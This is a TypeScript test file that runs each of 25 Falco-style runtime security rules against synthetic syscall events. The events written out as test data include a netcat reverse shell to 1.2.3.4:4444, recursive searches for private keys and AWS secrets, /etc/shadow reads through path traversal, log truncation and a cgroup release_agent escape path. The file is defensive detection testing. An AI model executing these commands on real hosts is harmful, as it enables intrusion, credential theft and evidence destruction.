// Every rule of the upstream stable file (vendored in rules/upstream)
// evaluated against hand-built events that should and should not match.
import { readFileSync } from 'node:fs';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { SyscallEvent } from '../../src/events/model.js';
import { loadRuleFiles } from '../../src/rules/index.js';
import { CONTAINER, connect, event, execve, fileFd, openat, O_CREAT, O_TRUNC, O_WRONLY, proc, procChain, RULES_DIR, tcpFd } from './events.js';
import { parseWithPositions } from '../../src/rules/yaml-positions.js';

const content = readFileSync(new URL('falco_rules.yaml', RULES_DIR), 'utf8');
const { ruleset, results } = loadRuleFiles([{ name: 'falco_rules.yaml', content }], {
  ruleMatching: 'all',
  positions: parseWithPositions,
  resolveHost: (h) => (h === 'kubernetes.default.svc.cluster.local' ? ['10.96.0.1'] : undefined),
});
if (!ruleset) throw new Error(JSON.stringify(results));
const rs = ruleset;
const tested = new Set<string>();

function fires(rule: string, e: SyscallEvent): boolean {
  assert.ok(rs.rules.some((r) => r.name === rule), `no rule named ${rule}`);
  tested.add(rule);
  return rs.evaluate(e).some((r) => r.name === rule);
}
function check(rule: string, yes: SyscallEvent[], no: SyscallEvent[]): void {
  for (const [i, e] of yes.entries()) assert.ok(fires(rule, e), `${rule}: positive case ${i} (${e.type}) did not fire`);
  for (const [i, e] of no.entries()) assert.not.ok(fires(rule, e), `${rule}: negative case ${i} (${e.type}) fired`);
}

const CAP_SYS_MODULE = 1n << 16n;
const CAP_SYS_ADMIN = 1n << 21n;
const CAP_DAC_OVERRIDE = 1n << 1n;
const HOST = { ...CONTAINER, id: 'host' };
const SEC = 1_000_000_000n;
const later = (ts: bigint) => ts - 100n * SEC;

test('Directory traversal monitored file read', () => {
  const p = procChain('python3', ['node']);
  const yes = openat(p, '/etc/shadow');
  yes.fd!.nameRaw = '/app/static/../../../etc/shadow';
  const no = openat(p, '/etc/shadow');
  no.fd!.nameRaw = '/etc/shadow';
  const noShell = openat(procChain('cat', ['bash']), '/etc/shadow');
  noShell.fd!.nameRaw = '../../etc/shadow/../../x';
  const failed = openat(p, '/etc/passwd', 0, -2);
  failed.fd = fileFd('/etc/passwd', -1, { nameRaw: 'a/../../etc/passwd' });
  check('Directory traversal monitored file read', [yes, failed], [no, noShell]);
});

test('Read sensitive file trusted after startup', () => {
  const old = proc({ comm: 'nginx', startTs: later(1_700_000_100_123_456_789n) });
  const young = proc({ comm: 'nginx', startTs: 1_700_000_100_000_000_000n });
  check('Read sensitive file trusted after startup', [openat(old, '/etc/shadow')], [openat(young, '/etc/shadow'), openat(old, '/etc/hosts')]);
});

test('Read sensitive file untrusted', () => {
  const p = procChain('python3', ['node']);
  check(
    'Read sensitive file untrusted',
    [openat(p, '/etc/shadow'), openat(p, '/etc/pam.d/common-auth'), openat(p, '/etc/sudoers.d/x', 2)],
    [openat(p, '/etc/hosts'), openat(procChain('passwd', ['bash']), '/etc/shadow'), openat(p, '/etc/shadow', O_WRONLY), openat(p, '/etc/shadow', 0, -13)],
  );
});

test('Run shell untrusted', () => {
  const sh = procChain('sh', ['nginx', 'nginx'], { args: ['-c', 'id'] });
  const fromShell = procChain('sh', ['bash'], { args: ['-c', 'id'] });
  const noParent = proc({ comm: 'sh' });
  check('Run shell untrusted', [execve(sh)], [execve(fromShell), execve(noParent), execve(procChain('ls', ['nginx']))]);
});

test('System user interactive', () => {
  const p = procChain('bash', ['sshd'], { user: { uid: 33, name: 'www-data' } });
  check('System user interactive', [execve(p)], [execve(procChain('bash', ['sshd'])), execve(procChain('bash', ['node'], { user: { uid: 33, name: 'www-data' } }))]);
});

test('Terminal shell in container', () => {
  const yes = proc({ comm: 'bash', tty: 34816 });
  const runc = procChain('sh', ['runc:[1:CHILD]'], { tty: 34817 });
  check('Terminal shell in container', [execve(yes), execve(runc)], [
    execve(proc({ comm: 'bash', tty: 0 })),
    execve(procChain('bash', ['node'], { tty: 34816 })),
    execve(proc({ comm: 'bash', tty: 34816, container: HOST })),
  ]);
});

test('Contact K8S API Server From Container', () => {
  const p = proc({ comm: 'curl' });
  check('Contact K8S API Server From Container', [connect(p, '10.96.0.1', 443)], [connect(p, '10.96.0.2', 443), connect(proc({ comm: 'curl', container: HOST }), '10.96.0.1', 443)]);
});

test('Netcat Remote Code Execution in Container', () => {
  check(
    'Netcat Remote Code Execution in Container',
    [execve(proc({ comm: 'nc', args: ['-e', '/bin/sh', '1.2.3.4', '4444'] })), execve(proc({ comm: 'ncat', args: ['--sh-exec', 'id', '1.2.3.4'] }))],
    [execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'ncat', args: ['-l', '8080'] }))],
  );
});

test('Search Private Keys or Passwords', () => {
  check(
    'Search Private Keys or Passwords',
    [execve(proc({ comm: 'find', args: ['/', '-name', 'id_rsa'] })), execve(proc({ comm: 'grep', args: ['-r', 'BEGIN RSA PRIVATE', '/'] }))],
    [execve(proc({ comm: 'find', args: ['/', '-name', '*.log'] })), execve(proc({ comm: 'grep', args: ['error', 'app.log'] }))],
  );
});

test('Clear Log Activities', () => {
  const p = proc({ comm: 'sh' });
  check('Clear Log Activities', [openat(p, '/var/log/syslog', O_WRONLY | O_TRUNC), openat(p, '/srv/auth.log', O_WRONLY | O_TRUNC | O_CREAT)], [
    openat(p, '/var/log/syslog', O_WRONLY | 0o2000),
    openat(p, '/app/data.txt', O_WRONLY | O_TRUNC),
  ]);
});

test('Remove Bulk Data from Disk', () => {
  check('Remove Bulk Data from Disk', [execve(proc({ comm: 'shred', args: ['-u', 'x'] }))], [execve(proc({ comm: 'rm', args: ['-rf', '/tmp/x'] }))]);
});

test('Create Symlink Over Sensitive Files', () => {
  const p = proc({ comm: 'ln' });
  const sym = (target: string) => event('symlinkat', p, { args: { res: 0, target, linkdirfd: -100, linkpath: '/tmp/l' } });
  check('Create Symlink Over Sensitive Files', [sym('/etc'), sym('/etc/shadow'), sym('/root/')], [sym('/tmp/x'), sym('/etc/hosts')]);
});

test('Create Hardlink Over Sensitive Files', () => {
  const p = proc({ comm: 'ln' });
  const link = (oldpath: string) => event('linkat', p, { args: { res: 0, olddir: -100, oldpath, newdir: -100, newpath: '/tmp/l', flags: 0 } });
  check('Create Hardlink Over Sensitive Files', [link('/etc/shadow'), link('/etc/sudoers')], [link('/tmp/x')]);
});

test('Packet socket created in container', () => {
  const p = proc({ comm: 'scapy' });
  const sock = (domain: number) => event('socket', p, { res: 4, args: { fd: 4, domain, type: 3, proto: 768 } });
  check('Packet socket created in container', [sock(17)], [sock(2), sock(10)]);
});

test('Redirect STDOUT/STDIN to Network Connection in Container', () => {
  const p = proc({ comm: 'bash' });
  const dup2 = (newfd: number, sock: boolean) =>
    event('dup2', p, { res: newfd, args: { res: newfd, oldfd: 3, newfd }, fd: sock ? tcpFd(3, '172.17.0.2', 40000, '1.2.3.4', 4444) : fileFd('/tmp/out', 3) });
  check('Redirect STDOUT/STDIN to Network Connection in Container', [dup2(0, true), dup2(1, true), dup2(2, true)], [dup2(5, true), dup2(1, false)]);
});

test('Linux Kernel Module Injection Detected', () => {
  const p = (caps: bigint) => proc({ comm: 'insmod', capEffective: caps });
  const ev = (caps: bigint) => event('finit_module', p(caps), { args: { res: 0, fd: 3, uargs: '', flags: 0 } });
  check('Linux Kernel Module Injection Detected', [ev(CAP_SYS_MODULE), ev(CAP_SYS_MODULE | CAP_SYS_ADMIN)], [ev(0n), ev(CAP_SYS_ADMIN)]);
});

test('Debugfs Launched in Privileged Container', () => {
  const priv = { ...CONTAINER, privileged: true };
  check('Debugfs Launched in Privileged Container', [execve(proc({ comm: 'debugfs', container: priv }))], [
    execve(proc({ comm: 'debugfs' })),
    execve(proc({ comm: 'ls', container: priv })),
  ]);
});

test('Detect release_agent File Container Escapes', () => {
  const root = { uid: 0, name: 'root' };
  const p = (caps: bigint, user = root) => proc({ comm: 'sh', capEffective: caps, user });
  const path = '/sys/fs/cgroup/rdma/x/release_agent';
  check(
    'Detect release_agent File Container Escapes',
    [openat(p(CAP_SYS_ADMIN), path, O_WRONLY), openat(p(CAP_SYS_ADMIN | CAP_DAC_OVERRIDE, { uid: 1000, name: 'app' }), path, O_WRONLY)],
    [openat(p(0n), path, O_WRONLY), openat(p(CAP_SYS_ADMIN), path), openat(p(CAP_SYS_ADMIN, { uid: 1000, name: 'app' }), path, O_WRONLY)],
  );
});

test('PTRACE attached to process', () => {
  const p = proc({ comm: 'inject' });
  const pt = (request: number) => event('ptrace', p, { args: { res: 0, request, pid: 42, addr: 0, data: 0 } });
  check('PTRACE attached to process', [pt(16), pt(0x4206), pt(4), pt(5), pt(13)], [pt(2), pt(0), pt(7)]);
});

test('PTRACE anti-debug attempt', () => {
  const p = proc({ comm: 'malware' });
  const pt = (request: number) => event('ptrace', p, { args: { res: 0, request, pid: 0, addr: 0, data: 0 } });
  check('PTRACE anti-debug attempt', [pt(0)], [pt(16)]);
});

test('Find AWS Credentials', () => {
  check(
    'Find AWS Credentials',
    [execve(proc({ comm: 'grep', args: ['-ri', 'aws_secret_access_key', '/'] })), execve(proc({ comm: 'find', args: ['/', '-path', '*.aws/credentials'] }))],
    [execve(proc({ comm: 'grep', args: ['-r', 'TODO', '.'] })), execve(proc({ comm: 'cat', args: ['aws_secret_access_key'] }))],
  );
});

test('Execution from /dev/shm', () => {
  check(
    'Execution from /dev/shm',
    [execve(proc({ comm: 'x', exe: '/dev/shm/x' })), execve(proc({ comm: 'x', exe: './x', cwd: '/dev/shm/d' })), execve(proc({ comm: 'sh', exe: 'sh', args: ['-c', '/dev/shm/x'] }))],
    [execve(proc({ comm: 'x', exe: '/usr/bin/x' })), execve(proc({ comm: 'sh', exe: 'sh', args: ['-c', 'ls /dev/shm'] }))],
  );
});

test('Drop and execute new binary in container', () => {
  check('Drop and execute new binary in container', [execve(proc({ comm: 'xmrig', exeUpperLayer: true }))], [
    execve(proc({ comm: 'xmrig' })),
    execve(proc({ comm: 'xmrig', exeUpperLayer: true, container: HOST })),
  ]);
});

test('Disallowed SSH Connection Non Standard Port', () => {
  const ssh = proc({ comm: 'ssh', exe: '/usr/bin/ssh' });
  check('Disallowed SSH Connection Non Standard Port', [connect(ssh, '8.8.8.8', 4444), connect(ssh, '8.8.8.8', 443)], [
    connect(ssh, '8.8.8.8', 22),
    connect(ssh, '10.1.2.3', 443),
    connect(proc({ comm: 'curl', exe: '/usr/bin/curl' }), '8.8.8.8', 443),
    connect(ssh, '8.8.8.8', 443, -111),
  ]);
});

test('Fileless execution via memfd_create', () => {
  check('Fileless execution via memfd_create', [execve(proc({ comm: '3', exepath: 'memfd:x', exeFromMemfd: true }))], [
    execve(proc({ comm: 'ls' })),
    execve(proc({ comm: 'runc', exeFromMemfd: true })),
  ]);
});

test('benign events fire nothing', () => {
  const app = procChain('node', [], { args: ['server.js'] });
  const benign = [
    openat(app, '/app/node_modules/express/index.js'),
    openat(app, '/tmp/upload', O_WRONLY | O_CREAT | O_TRUNC),
    execve(procChain('node', ['npm'], { args: ['server.js'] })),
    connect(app, '10.0.1.5', 5432),
    connect(app, '52.94.1.1', 443),
  ];
  for (const e of benign) assert.equal(rs.evaluate(e).map((r) => r.name), [], e.type);
});

test('every stable rule was exercised', () => {
  const missing = rs.rules.map((r) => r.name).filter((n) => !tested.has(n));
  assert.equal(missing, []);
  assert.is(rs.rules.length, 25);
});

test.run();
